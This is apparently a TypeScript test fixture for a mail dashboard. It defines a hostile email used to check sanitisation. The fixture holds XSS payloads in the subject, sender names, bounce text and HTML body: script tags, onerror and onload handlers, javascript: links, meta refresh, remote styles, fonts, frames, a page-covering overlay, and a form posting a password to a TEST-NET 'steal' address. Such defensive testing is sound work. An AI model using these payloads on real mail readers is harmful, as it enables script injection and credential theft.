/**
 * A message written to attack whoever reads it in the dashboard: script in
 * its subject, its display names and its bodies, and HTML that tries to run
 * script (a script element, event handlers, a `javascript:` link, an SVG
 * onload), to navigate (a meta refresh, a form), to load from outside (a
 * remote image, a stylesheet, an @import, a font, a frame, an object, a
 * preconnect, a base URL) and to escape its box (a fixed element over the
 * whole viewport). Each script sets window.__pwned or opens a dialog if it
 * ever runs. Every outside address is in TEST-NET-1 (192.0.2.0/24): nothing
 * answers there, and a test sees any request to it.
 */

/** The one remote image: the only thing that may load, and only once the reader asks. */
export const REMOTE_IMAGE = 'http://192.0.2.1/logo.png';

export const HOSTILE_SUBJECT = `<img src=x onerror="alert('subject')"><script>window.__pwned='subject'</script> Your invoice`;
export const HOSTILE_FROM = `"<img src=x onerror=alert('from')>" <news@payload.example>`;
export const HOSTILE_REPLY_TO = `"<script>window.__pwned='reply-to'</script>" <help@payload.example>`;
export const HOSTILE_TEXT = `<script>window.__pwned='text'</script> Pay at javascript:alert('text')`;
/** What the relay answers the refused recipient: a bounce text carrying markup. */
export const HOSTILE_RELAY_REPLY = `5.1.1 <img src=x onerror="window.__pwned='bounce'"> no such user`;

export const HOSTILE_HTML = `<!doctype html>
<html><head>
<meta http-equiv="refresh" content="0;url=http://192.0.2.2/refresh">
<meta name="referrer" content="unsafe-url">
<base href="http://192.0.2.3/">
<link rel="stylesheet" href="http://192.0.2.4/style.css">
<link rel="preconnect" href="http://192.0.2.5">
<style>
@import url(http://192.0.2.6/import.css);
@font-face { font-family: spy; src: url(http://192.0.2.7/font.woff); }
body { font-family: spy, sans-serif; }
.cover { position: fixed; top: 0; left: 0; width: 100vw; height: 100vh; z-index: 2147483647; background: rgba(200, 0, 0, 0.15); }
</style>
<script>alert('script'); window.__pwned = 'script'; top.document.title = 'pwned';</script>
</head><body onload="alert('onload')">
<div class="cover"><p>This box tries to cover the whole page.</p></div>
<p id="mail-marker">Hello from the mail</p>
<img src="${REMOTE_IMAGE}" referrerpolicy="unsafe-url" onerror="alert('onerror')" alt="Company logo" width="120" height="40">
<a id="js-link" href="javascript:alert('link')">Open your invoice</a>
<form action="http://192.0.2.8/steal" method="post"><input name="password" value="hunter2"><button id="submit">Log in</button></form>
<iframe src="http://192.0.2.9/frame" title="x"></iframe>
<object data="http://192.0.2.10/object"></object>
<svg onload="alert('svg')" width="10" height="10"></svg>
</body></html>`;
